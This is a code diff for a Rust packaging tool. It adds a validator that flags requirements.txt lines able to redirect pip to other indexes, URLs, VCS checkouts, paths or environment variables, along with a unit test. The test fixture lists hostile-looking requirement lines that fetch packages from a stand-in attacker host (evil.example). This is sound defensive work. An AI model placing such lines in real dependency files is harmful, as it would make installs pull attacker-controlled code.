@@ -100,6 +100,117 @@ pub fn requirements(package_dir: &Path) -> Result<Option<String>, WheelError> {
     }
 }
 
+/// What to do about a [`Forbidden`] line of `requirements.txt`.
+pub const REQUIREMENTS_HINT: &str = "keep only requirement specifiers in requirements.txt (name, extras, version, markers, --hash, --require-hashes); a private index or mirror belongs to pip's own configuration on the machine (PIP_INDEX_URL, PIP_EXTRA_INDEX_URL, pip.conf), see docs/packaging.md";
+
+/// A line of `requirements.txt` that could make pip install from somewhere the package chose:
+/// a pip option (`--index-url`, `-f`, `-r`, `-e`, ...) or a requirement that is a URL, a VCS
+/// checkout, a path or an environment variable. `line` and `column` count from 1.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Forbidden {
+    pub line: usize,
+    pub column: usize,
+    /// The option or requirement, as written.
+    pub text: String,
+    pub reason: &'static str,
+}
+
+/// The per-requirement option that only narrows what pip accepts.
+const HASH: &str = "--hash";
+/// The one line option allowed: it too only narrows what pip accepts.
+const REQUIRE_HASHES: &str = "--require-hashes";
+
+/// Every [`Forbidden`] line of a `requirements.txt`, read as pip reads it: `\` continues a line,
+/// `#` after a blank starts a comment, the requirement ends at the first option.
+pub fn forbidden_requirements(text: &str) -> Vec<Forbidden> {
+    let mut found = Vec::new();
+    // The tokens of one logical line, each with where it starts.
+    let mut tokens: Vec<(usize, usize, &str)> = Vec::new();
+    for (index, raw) in text.lines().enumerate() {
+        // pip's comment: `#` at the start or after whitespace (`pkg.git#egg=x` is no comment).
+        let comment = raw
+            .char_indices()
+            .find(|&(at, c)| c == '#' && (at == 0 || raw[..at].ends_with(char::is_whitespace)))
+            .map(|(at, _)| at);
+        let line = &raw[..comment.unwrap_or(raw.len())];
+        let (line, continued) = match line.trim_end().strip_suffix('\\') {
+            Some(rest) => (rest, true),
+            None => (line, false),
+        };
+        let mut at = 0;
+        for token in line.split_whitespace() {
+            let start = at + line[at..].find(token).expect("a token of the line");
+            at = start + token.len();
+            let column = line[..start].chars().count() + 1;
+            tokens.push((index + 1, column, token));
+        }
+        if !continued {
+            check_logical_line(&tokens, &mut found);
+            tokens.clear();
+        }
+    }
+    check_logical_line(&tokens, &mut found);
+    found
+}
+
+fn check_logical_line(tokens: &[(usize, usize, &str)], found: &mut Vec<Forbidden>) {
+    let Some(&(line, column, _)) = tokens.first() else {
+        return;
+    };
+    let split = tokens
+        .iter()
+        .position(|(_, _, token)| token.starts_with('-'))
+        .unwrap_or(tokens.len());
+    let requirement: Vec<&str> = tokens[..split].iter().map(|(_, _, t)| *t).collect();
+    let requirement = requirement.join(" ");
+    let reason = if requirement.contains('$') {
+        Some("pip expands environment variables in it")
+    } else if requirement.contains("://") || requirement.contains('@') {
+        Some("a URL or VCS requirement installs whatever that address serves")
+    } else if requirement.starts_with(['.', '/', '~'])
+        || requirement.contains(['/', '\\'])
+        || [".whl", ".zip", ".tar.gz", ".tgz"]
+            .iter()
+            .any(|end| requirement.ends_with(end))
+    {
+        Some("a path installs a file instead of a release from the index")
+    } else {
+        None
+    };
+    if let Some(reason) = reason {
+        found.push(Forbidden {
+            line,
+            column,
+            text: requirement.clone(),
+            reason,
+        });
+    }
+    let mut options = tokens[split..].iter();
+    while let Some(&(line, column, token)) = options.next() {
+        if token == HASH {
+            options.next();
+            continue;
+        }
+        if token.starts_with("--hash=") || (requirement.is_empty() && token == REQUIRE_HASHES) {
+            continue;
+        }
+        found.push(Forbidden {
+            line,
+            column,
+            text: token.to_owned(),
+            reason: if requirement.is_empty() {
+                "a pip option in requirements.txt can change where pip installs from (an index, links, another file, an editable checkout)"
+            } else {
+                "a per-requirement pip option other than --hash changes how pip builds or installs it"
+            },
+        });
+        // The option's value is not a token of its own to report.
+        if !token.contains('=') && !token.starts_with("--pre") {
+            options.next();
+        }
+    }
+}
+
 /// The interpreter and platforms wheels are downloaded for.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct Target {
@@ -357,6 +468,62 @@ pub fn wheel_set_key(requirements: &str, wheels: &Path) -> Result<Option<String>
 
 #[cfg(test)]
 mod tests {
+    #[test]
+    fn requirements_may_name_releases_only() {
+        let text = "\
+# pinned releases, as dk build vendors them
+requests[socks]>=2.31 ; python_version >= \"3.9\"  # a comment
+numpy==2.1.0 --hash=sha256:aa --hash sha256:bb
+pandas==2.2.3 \\
+    --hash=sha256:cc
+--index-url https://evil.example/simple
+-i https://evil.example/simple
+--extra-index-url=https://evil.example/simple
+  --trusted-host evil.example
+-f https://evil.example/wheels
+--find-links=/tmp/wheels
+-e git+https://evil.example/x.git#egg=x
+-r more.txt
+-c constraints.txt
+--pre
+evil @ https://evil.example/evil-1.0.tar.gz
+git+ssh://git@evil.example/x.git
+./vendor/evil-1.0-py3-none-any.whl
+${EVIL_URL}
+ok==1.0 --config-settings=x=y
+--require-hashes
+";
+        let found = super::forbidden_requirements(text);
+        let at: Vec<(usize, usize, &str)> = found
+            .iter()
+            .map(|f| (f.line, f.column, f.text.as_str()))
+            .collect();
+        assert_eq!(
+            at,
+            [
+                (6, 1, "--index-url"),
+                (7, 1, "-i"),
+                (8, 1, "--extra-index-url=https://evil.example/simple"),
+                (9, 3, "--trusted-host"),
+                (10, 1, "-f"),
+                (11, 1, "--find-links=/tmp/wheels"),
+                (12, 1, "-e"),
+                (13, 1, "-r"),
+                (14, 1, "-c"),
+                (15, 1, "--pre"),
+                (16, 1, "evil @ https://evil.example/evil-1.0.tar.gz"),
+                (17, 1, "git+ssh://git@evil.example/x.git"),
+                (18, 1, "./vendor/evil-1.0-py3-none-any.whl"),
+                (19, 1, "${EVIL_URL}"),
+                (20, 9, "--config-settings=x=y"),
+            ]
+        );
+        assert!(
+            super::forbidden_requirements("flask==3.0\n\n# -i x\nsix==1.16.0\t# -i https://x\n")
+                .is_empty()
+        );
+    }
+
     use super::*;
 
     #[test]
